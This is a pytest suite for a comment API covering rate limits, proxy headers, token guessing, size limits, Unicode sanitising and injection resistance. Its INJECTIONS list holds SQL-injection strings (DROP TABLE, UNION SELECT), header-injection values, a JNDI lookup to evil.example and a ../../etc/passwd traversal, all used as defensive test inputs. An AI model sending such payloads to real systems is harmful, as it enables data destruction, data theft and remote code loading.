"""Abuse and bad input: rate limits, proxies, token guessing, sizes, Unicode, injections."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from flask import Blueprint, Flask
from sqlalchemy import func, select, text

from service.db import db
from service.models import ApiToken, Article, AuditEvent, ChangeEvent, Comment, Site
from service.sites import create_site
from service.tokens import create_token, require
from service.transitions import change_status
from tests.conftest import comment_payload

LIST = "/api/v1/comments?site=news&article=/2023/12/india-russia-talks"


@pytest.fixture()
def limited(app: Flask, site: Site, app_factory) -> Iterator[Callable[..., Flask]]:
    """Apps with rate limits on (Redis storage); the shared limiter is switched off after."""

    def make(**overrides: Any) -> Flask:
        settings = {"RATELIMIT_ENABLED": True, "RATELIMIT_SUBMIT": "3 per minute",
                    "RATELIMIT_SUBMIT_PER_SITE": "1000 per minute",
                    "RATELIMIT_AUTH_FAILURES": "1000 per minute"}
        return app_factory(**(settings | overrides))

    yield make
    # Flask-Limiter keeps its switch on the shared extension object: leave it as we found it.
    app_factory(RATELIMIT_ENABLED=False)


def post(client, ip: str = "198.51.100.1", headers: dict[str, str] | None = None, **fields):
    return client.post("/api/v1/comments", json=comment_payload(**fields),
                       environ_base={"REMOTE_ADDR": ip}, headers=headers or {})


def assert_rate_limited(response) -> None:
    assert response.status_code == 429
    body = response.get_json()
    assert body["error"] == "rate_limited" and body["message"]
    assert int(response.headers["Retry-After"]) > 0


# ----- rate limits -----

def test_submissions_are_limited_per_ip(limited):
    client = limited().test_client()
    for i in range(3):
        assert post(client, body=f"remark {i}").status_code == 202
    assert_rate_limited(post(client, body="one too many"))
    assert post(client, ip="198.51.100.2", body="another reader").status_code == 202


def test_submissions_are_limited_per_site(limited, app):
    with app.app_context():
        create_site("other", "Other")
    client = limited(RATELIMIT_SUBMIT="100 per minute",
                     RATELIMIT_SUBMIT_PER_SITE="4 per minute").test_client()
    for i in range(4):
        assert post(client, ip=f"198.51.100.{10 + i}", body=f"remark {i}").status_code == 202
    assert_rate_limited(post(client, ip="198.51.100.99", body="a fresh IP is no way round"))
    assert post(client, ip="198.51.100.99", site="other", body="other site").status_code == 202


def test_rate_limited_answer_has_retry_after_and_no_limit_when_disabled(limited, app):
    client = limited(RATELIMIT_SUBMIT="1 per minute").test_client()
    assert post(client).status_code == 202
    limited_answer = post(client, body="second")
    assert_rate_limited(limited_answer)
    unlimited = limited(RATELIMIT_ENABLED=False).test_client()
    for i in range(5):
        assert post(unlimited, body=f"no limit {i}").status_code == 202


def test_global_limits_still_apply_when_configured(limited, app):
    """Vetted skips Flask-Limiter's global pass only while no global limit is configured."""
    from service.extensions import limiter

    assert limiter._check_request_limit not in limited().before_request_funcs[None]
    with_default = limited(RATELIMIT_DEFAULT="2 per minute")
    assert limiter._check_request_limit in with_default.before_request_funcs[None]
    client = with_default.test_client()
    url = "/api/v1/comments?site=news&article=/a"
    assert [client.get(url).status_code for _ in range(2)] == [200, 200]
    assert_rate_limited(client.get(url))


def test_forged_forwarded_for_is_ignored_without_trusted_proxies(limited, app):
    client = limited(TRUSTED_PROXIES=0).test_client()
    for i in range(3):
        response = post(client, body=f"remark {i}", headers={"X-Forwarded-For": f"10.0.0.{i}"})
        assert response.status_code == 202
    assert_rate_limited(post(client, body="forged", headers={"X-Forwarded-For": "10.9.9.9"}))
    with app.app_context():
        ips = set(db.session.scalars(select(Comment.ip)))
    assert ips == {"198.51.100.1"}


def test_forwarded_for_from_one_trusted_proxy_keys_the_limit(limited, app):
    client = limited(TRUSTED_PROXIES=1).test_client()
    for i in range(3):
        response = post(client, body=f"remark {i}", headers={"X-Forwarded-For": "10.0.0.1"})
        assert response.status_code == 202
    assert_rate_limited(post(client, body="same reader", headers={"X-Forwarded-For": "10.0.0.1"}))
    # The proxy's own address is shared by every reader; the forwarded one is the reader's.
    assert post(client, body="next reader",
                headers={"X-Forwarded-For": "10.0.0.2"}).status_code == 202
    with app.app_context():
        ips = set(db.session.scalars(select(Comment.ip)))
    assert ips == {"10.0.0.1", "10.0.0.2"}


def guarded_app(limited, **overrides: Any) -> Flask:
    """A limited app with a token-protected probe under the moderation prefix."""
    app = limited(**overrides)
    probe = Blueprint("probe", __name__)

    @probe.get("/api/v1/moderation/_probe")
    @require("moderate")
    def _probe():
        return {"ok": True}

    app.register_blueprint(probe)
    return app


def test_token_guessing_is_limited_per_ip(limited, site):
    app = guarded_app(limited, RATELIMIT_AUTH_FAILURES="3 per minute")
    with app.app_context():
        _, token = create_token("moderator", ["news"])
    client = app.test_client()

    def call(secret: str, ip: str = "198.51.100.7"):
        return client.get("/api/v1/moderation/_probe", environ_base={"REMOTE_ADDR": ip},
                          headers={"Authorization": f"Bearer {secret}"})

    assert call(token).status_code == 200
    for i in range(3):
        assert call(f"vt_guess{i}").status_code == 401
    assert_rate_limited(call("vt_guess-more"))
    # Even the right token waits: the guesser cannot learn which guess would have worked.
    assert_rate_limited(call(token))
    assert call(token, ip="198.51.100.8").status_code == 200


def test_token_guessing_on_the_real_endpoints_is_limited(limited, site):
    client = limited(RATELIMIT_AUTH_FAILURES="4 per minute").test_client()
    guesses = ["/api/v1/moderation/me", "/api/v1/changes?site=news", "/api/v1/moderation/queue",
               "/api/v1/webhooks"]
    for path in guesses:
        response = client.get(path, headers={"Authorization": "Bearer vt_guess"})
        assert response.status_code == 401, path
    assert_rate_limited(client.get("/api/v1/moderation/me",
                                   headers={"Authorization": "Bearer vt_guess"}))
    # The public API is not affected by failed guesses.
    assert client.get("/api/v1/comments?site=news&article=/a").status_code == 200


# ----- sizes and content types -----

@pytest.mark.parametrize(
    ("kwargs", "status"),
    [
        ({"data": json.dumps(comment_payload(body="x" * 100_000)),
          "content_type": "application/json"}, 413),
        ({"data": "x", "content_type": "text/plain"}, 415),
        ({"data": "<comment/>", "content_type": "application/xml"}, 415),
        ({"data": {"site": "news"}, "content_type": "multipart/form-data"}, 415),
        ({"data": b'{"site": "news\xff"}', "content_type": "application/json"}, 400),
        ({"data": "[" * 30_000 + "]" * 30_000, "content_type": "application/json"}, 400),
        ({"data": '{"a":' * 5_000 + "1" + "}" * 5_000, "content_type": "application/json"}, 400),
        ({"data": "null", "content_type": "application/json"}, 400),
        ({"data": '"just a string"', "content_type": "application/json"}, 400),
    ],
)
def test_oversized_or_wrong_bodies_get_clear_4xx(site, client, kwargs, status):
    response = client.post("/api/v1/comments", **kwargs)
    assert response.status_code == status
    assert response.get_json()["error"] and response.get_json()["message"]


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"body": "a" * 10_001}, "body"),
        ({"name": "n" * 101}, "name"),
        ({"url": "https://example.org/" + "p" * 600}, "url"),
        ({"email": "a" * 300 + "@example.org"}, "email"),
        ({"article": "/" + "a" * 600}, "article"),
        ({"site": "s" * 65}, "site"),
        ({"body": ["a", "list"]}, "body"),
        ({"body": {"a": "dict"}}, "body"),
        ({"name": None}, "name"),
        ({"parent_id": -1}, "parent_id"),
        ({"parent_id": 2**70}, "parent_id"),
        ({"body": "\ud800 lone surrogate"}, "body"),
        ({"email": "a\x00b@example.org"}, "email"),
    ],
)
def test_field_limits_and_types_get_422(site, submit, overrides, field):
    response = submit(**overrides)
    assert response.status_code == 422
    assert field in response.get_json()["fields"]


def test_a_100_kb_single_line_is_refused_and_a_long_line_is_stored(app, site, submit):
    assert submit(body="y" * 100_000).status_code == 413
    response = submit(body="z" * 9_999)
    assert response.status_code == 202
    with app.app_context():
        assert len(db.session.get(Comment, response.get_json()["id"]).body) == 9_999


def test_replies_deeper_than_the_policy_are_refused(app, site, submit):
    with app.app_context():
        from service.sites import update_policy

        update_policy(db.session.merge(site), {"max_depth": 2}, "test")
    parent = submit(body="top").get_json()["id"]
    approve(app, parent)
    child = submit(body="reply", parent_id=parent).get_json()["id"]
    approve(app, child)
    deep = submit(body="too deep", parent_id=child)
    assert deep.status_code == 422 and "parent_id" in deep.get_json()["fields"]


def test_a_comment_full_of_links_is_stored_and_held(app, site, submit):
    from worker.moderation import moderate_and_drain

    body = " ".join(f"https://l{i}.example" for i in range(400))
    response = submit(body=body)
    assert response.status_code == 202
    comment_id = response.get_json()["id"]
    with app.app_context():
        decision = moderate_and_drain(comment_id)
        # Held at least; the spam model may call it spam, which outranks a hold.
        assert decision is not None and decision.status in ("review", "spam")
        links = [r for r in decision.results if r.check == "links"]
        assert links[0].reason == "links.too_many" and links[0].score == 400


def approve(app: Flask, comment_id: int) -> None:
    with app.app_context():
        comment = db.session.get(Comment, comment_id)
        change_status(comment, "approved", actor="test", action="approve")
        db.session.commit()


# ----- Unicode -----

@pytest.mark.parametrize(
    ("body", "forbidden"),
    [
        ("hello\x00world", "\x00"),
        ("bell\x07 escape\x1b[31m red", "\x1b"),
        ("invoice\u202egnp.exe", "\u202e"),
        ("left\u2066isolate\u2069", "\u2066"),
        ("zero\u200bwidth\u200cjoin\ufeffer", "\u200b"),
        ("word\u2060joiner", "\u2060"),
        ("carriage\rreturn", "\r"),
        ("delete\x7fchar and C1\x85", "\x7f"),
    ],
)
def test_invisible_and_control_characters_are_removed(app, site, submit, body, forbidden):
    response = submit(body=body)
    assert response.status_code == 202
    with app.app_context():
        comment = db.session.get(Comment, response.get_json()["id"])
        assert forbidden not in comment.body and forbidden not in comment.body_html
        assert comment.body.strip()


def test_combining_floods_are_trimmed(app, site, submit):
    response = submit(body="Z" + "\u0301\u0302\u0303" * 300 + "algo", name="N\u0300" * 3)
    assert response.status_code == 202
    with app.app_context():
        comment = db.session.get(Comment, response.get_json()["id"])
    marks = [c for c in comment.body if unicodedata.combining(c)]
    assert len(marks) <= 4 and comment.body.endswith("algo")


@pytest.mark.parametrize("body", ["\u200b\u200c\u200d", "\x00\x01\x02", "\u202e\u202d", " \n\t "])
def test_a_body_of_nothing_visible_is_refused(site, submit, body):
    response = submit(body=body)
    assert response.status_code == 422 and "body" in response.get_json()["fields"]


def test_non_latin_text_is_kept_intact(app, site, submit):
    text_in = "مرحبا بالعالم — नमस्ते दुनिया — 你好，世界 — Привет 👋🏽"
    response = submit(body=text_in, name="Zoë Ångström")
    with app.app_context():
        comment = db.session.get(Comment, response.get_json()["id"])
    assert comment.body == unicodedata.normalize("NFC", text_in)
    assert comment.author_name == "Zoë Ångström"


# ----- SQL and header injection -----

INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE comments; --",
    "1; DELETE FROM sites",
    "\" OR \"\"=\"",
    "news' UNION SELECT email FROM comments --",
    "%' OR 1=1 --",
    "\\'; SELECT pg_sleep(5); --",
    "x\r\nSet-Cookie: injected=1",
    "x%0d%0aX-Injected:%201",
    "x\nX-Injected: 1",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../etc/passwd",
]
FIELDS = ["site", "article", "name", "email", "body", "url", "hp", "parent_id"]


def table_counts() -> dict[str, int]:
    return {model.__tablename__: db.session.scalar(select(func.count()).select_from(model))
            for model in (Site, Article, Comment, AuditEvent, ChangeEvent, ApiToken)}


def assert_no_injected_headers(response) -> None:
    assert "Set-Cookie" not in response.headers
    assert "X-Injected" not in response.headers


@pytest.mark.parametrize("field", FIELDS)
def test_injection_strings_in_every_submit_field_do_nothing(app, site, client, field):
    with app.app_context():
        _, token = create_token("moderator", ["news"])
        before = table_counts()
    accepted = 0
    for payload in INJECTIONS:
        response = client.post("/api/v1/comments", json=comment_payload(
            **{field: payload, "body": f"injection test {payload}"} if field != "body"
            else {field: payload}))
        assert response.status_code in (202, 404, 422), (field, payload, response.get_json())
        assert response.get_json()["error" if response.status_code != 202 else "status"]
        assert_no_injected_headers(response)
        accepted += response.status_code == 202
    with app.app_context():
        after = table_counts()
        stored = db.session.scalars(select(Comment).order_by(Comment.id)).all()
        # Integrity: the schema still answers and every table is where it was.
        db.session.execute(text("SELECT id, email, body FROM comments")).all()
    assert after["sites"] == before["sites"] and after["api_tokens"] == before["api_tokens"]
    assert after["comments"] == before["comments"] + accepted
    assert after["audit_events"] == before["audit_events"]
    if field in ("name", "body", "hp"):
        # Stored verbatim as data, never interpreted.
        assert accepted == len(INJECTIONS)
        values = {getattr(c, {"name": "author_name", "hp": "honeypot"}.get(field, field))
                  for c in stored}
        assert "'; DROP TABLE comments; --" in values
    assert token


@pytest.mark.parametrize("param", ["site", "article", "after", "limit"])
def test_injection_strings_in_every_list_parameter_do_nothing(app, site, client, param):
    with app.app_context():
        before = table_counts()
    for payload in INJECTIONS:
        query = {"site": "news", "article": "/2023/12/india-russia-talks", param: payload}
        response = client.get("/api/v1/comments", query_string=query)
        assert response.status_code in (200, 404, 422), (param, payload)
        assert_no_injected_headers(response)
        if response.status_code == 200:
            assert response.get_json()["comments"] == []
    with app.app_context():
        assert table_counts() == before


def test_injection_strings_in_status_token_and_ids_do_nothing(app, site, client, submit):
    own = submit().get_json()
    for payload in INJECTIONS:
        response = client.get(f"/api/v1/comments/{own['id']}/status",
                              query_string={"token": payload})
        assert response.status_code == 404
        assert_no_injected_headers(response)
        response = client.delete(f"/api/v1/comments/{own['id']}",
                                 query_string={"token": payload})
        assert response.status_code == 404
    for path in ("/api/v1/comments/1%20OR%201=1/status", "/api/v1/comments/-1/status",
                 "/api/v1/comments/99999999999999999999999/status"):
        response = client.get(path, query_string={"token": "x"})
        assert response.status_code == 404 and response.get_json()["error"]
    with app.app_context():
        assert db.session.get(Comment, own["id"]).status == "pending"


@pytest.mark.parametrize("header", ["User-Agent", "Referer", "X-Request-Id", "X-Forwarded-For",
                                    "Origin"])
def test_injection_strings_in_request_headers_do_nothing(app, site, client, header):
    for payload in INJECTIONS:
        value = payload.replace("\r", "").replace("\n", " ")  # a raw newline cannot be sent
        response = client.post("/api/v1/comments", json=comment_payload(body=f"h {payload}"),
                               headers={header: value})
        assert response.status_code in (202, 403), (header, payload)
        assert_no_injected_headers(response)
        if header == "X-Request-Id":
            assert response.headers["X-Request-Id"] in (value, response.headers["X-Request-Id"])
            assert "\n" not in response.headers["X-Request-Id"]
